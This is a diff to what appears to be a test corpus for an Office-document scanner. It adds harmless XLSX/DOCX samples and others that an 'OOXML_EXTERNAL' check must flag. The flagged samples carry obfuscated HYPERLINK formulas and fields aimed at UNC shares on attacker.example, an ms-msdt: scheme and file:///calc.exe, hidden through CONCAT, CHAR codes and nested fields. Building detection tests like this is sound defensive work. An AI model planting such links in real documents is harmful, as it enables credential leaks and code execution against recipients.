@@ -64,6 +64,7 @@ import {
   sheetWith,
   workbookVml,
 } from '../../fixtures/active-office.ts';
+import { documentOf, tableOfContents, workbookWithStrings } from '../../fixtures/active-office.ts';
 import {
   ofdAnnotationAction,
   ofdEncodedAction,
@@ -1034,6 +1035,7 @@ const officeItems: CorpusItem[] = [
   },
   ...hiddenOfficeItems(),
   ...reachingOfficeItems(),
+  ...computedLinkOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -2511,4 +2513,147 @@ export const ACTIVE_GENUINE: readonly {
           '<w:fldSimple w:instr=" HYPERLINK &quot;附件\\\\annex.pdf&quot; "/>',
       ),
   },
+  {
+    id: 'xlsx-hyperlink-picks-web-addresses',
+    declared: 'xlsx',
+    // A list of web sites linked with HYPERLINK(A1), labels and times beside them.
+    bytes: () =>
+      workbookWithStrings(
+        '<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1,&quot;打开&quot;)</f><v>打开</v></c>' +
+          '<c r="C1" t="str"><f>HYPERLINK(&quot;#\'汇总表\'!A&quot;&amp;ROW(),&quot;返回&quot;)</f><v>返回</v></c>',
+        ['https://www.miit.gov.cn/', 'QQ:12345', '08:30', 'A: 优秀', 'N/A', '/'],
+        { names: '<definedName name="首页">&quot;https://www.miit.gov.cn/&quot;</definedName>' },
+      ),
+  },
+  {
+    id: 'xlsx-shares-listed-not-linked',
+    declared: 'xlsx',
+    // Share paths as text, which no HYPERLINK picks: nobody's click.
+    bytes: () => workbookWithStrings('<c r="A1" t="s"><v>0</v></c>', ['\\\\\\\\fileserver\\\\集群\\\\申报材料']),
+  },
+  {
+    id: 'docx-table-of-contents-word',
+    declared: 'docx',
+    bytes: () => documentOf(tableOfContents()),
+  },
+  {
+    id: 'docx-table-of-contents-wps',
+    declared: 'docx',
+    bytes: () => documentOf(tableOfContents(true)),
+  },
+  {
+    id: 'docx-fields-touching-harmless-names',
+    declared: 'docx',
+    bytes: () =>
+      documentWith(
+        nestedField('IF', ' MERGEFIELD 性别 ', '="男" "先生" "女士"') +
+          complexField('PAGE', ' \\* MERGEFORMAT') +
+          complexField(' PAGE  \\* Arabic  \\* MERGEFORMAT ') +
+          '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>1</w:t></w:r></w:fldSimple>' +
+          nestedField(' HYPERLINK "https://www.miit.gov.cn/?id=', ' MERGEFIELD 编号 ', '" ') +
+          nestedField(' HYPERLINK \\l "', ' REF 书签 ', '" '),
+      ),
+  },
 ];
+
+/**
+ * Link targets computed rather than written: HYPERLINK formulas that build theirs from pieces or
+ * pick a share's address the workbook holds, and HYPERLINK fields whose target a nested field
+ * computes.
+ */
+function computedLinkOfficeItems(): CorpusItem[] {
+  const COMPUTED = 'OOXML link whose target is computed';
+  const q = (text: string) => text.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
+  const picks = '<c r="A1" t="s"><v>0</v></c><c r="B1" t="str"><f>HYPERLINK(A1,&quot;附件&quot;)</f><v>附件</v></c>';
+  return [
+    item(
+      'xlsx-hyperlink-picks-share-string',
+      COMPUTED,
+      () => workbookWithStrings(picks, ['\\\\attacker.example\\share\\x.xlsx']),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-share-string-read-first',
+      COMPUTED,
+      () => workbookWithStrings(picks, ['\\\\attacker.example\\share\\x.xlsx'], { stringsFirst: true }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-rich-text-runs',
+      COMPUTED,
+      () => workbookWithStrings(picks, [['\\', '\\attacker.example\\share\\x.xlsx']]),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-program-scheme',
+      COMPUTED,
+      () => workbookWithStrings(picks, ['ms-msdt:-id PCWDiagnostic /skip force']),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-defined-name',
+      COMPUTED,
+      () =>
+        workbookWithStrings('<c r="B1" t="str"><f>HYPERLINK(附件)</f><v>附件</v></c>', [], {
+          names: `<definedName name="附件">${q('"\\\\attacker.example\\share\\x.xlsx"')}</definedName>`,
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-picks-inline-string',
+      COMPUTED,
+      () =>
+        workbookWithStrings(
+          '<c r="A1" t="inlineStr"><is><t>file:///C:/Windows/System32/calc.exe</t></is></c><c r="B1" t="str"><f>HYPERLINK(A1)</f><v>x</v></c>',
+          [],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-joined-backslashes',
+      COMPUTED,
+      () => sheetWithFormula(q('HYPERLINK("\\"&"\\attacker.example\\share\\x.xlsx","附件")')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-concat',
+      COMPUTED,
+      () => sheetWithFormula(q('HYPERLINK(_xlfn.CONCAT("fi","le:///C:/Windows/System32/calc.exe"))')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-char-codes',
+      COMPUTED,
+      () => sheetWithFormula(q('HYPERLINK(CHAR(92)&CHAR(92)&"attacker.example\\share\\x")')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-hyperlink-two-cells-joined',
+      COMPUTED,
+      () => workbookWithStrings('<c r="B1" t="str"><f>HYPERLINK(A1&amp;A2)</f><v>x</v></c>', ['\\', '\\attacker']),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-field-quote-target',
+      COMPUTED,
+      () => documentWith(nestedField(' HYPERLINK "', ' QUOTE 92 92 ', 'attacker.example\\\\share\\\\x.docx" ')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-field-docproperty-target',
+      COMPUTED,
+      () => documentWith(nestedField(' HYPERLINK ', ' DOCPROPERTY 网址 ', ' \\o "附件" ')),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-hyperlink-field-simple-nested',
+      COMPUTED,
+      () =>
+        documentWith(
+          '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> HYPERLINK "fi</w:instrText></w:r>' +
+            '<w:fldSimple w:instr=" QUOTE &quot;le:///C:/x.exe&quot; "/><w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
+        ),
+      'OOXML_EXTERNAL',
+    ),
+  ];
+}
